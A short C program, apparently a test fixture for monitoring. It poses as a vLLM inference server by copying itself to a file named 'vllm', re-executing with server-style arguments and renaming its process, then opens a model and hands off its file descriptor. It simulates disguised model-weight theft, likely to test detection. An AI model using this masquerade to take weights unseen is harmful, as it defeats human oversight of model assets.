/* A thief that looks like a server: file name, comm and arguments are those of vLLM. */
#include <sys/prctl.h>

#include "../tools/act.h"

int main(int argc, char** argv) {
  const char* fake = in_work("vllm");
  int from, to;

  if (argc > 2 && strcmp(argv[1], "serve") == 0) {
    prctl(PR_SET_NAME, "VLLM::EngineCor");
    send_descriptor(open_model());
    return 0;
  }
  from = open_or_die("/proc/self/exe", O_RDONLY);
  to = open(fake, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
  check(to >= 0, fake);
  pump(from, to);
  close(to);
  execl(fake, "vllm", "serve", env("EV_MODEL"), "--port", "8000", (char*)NULL);
  check(0, "exec");
  return 1;
}
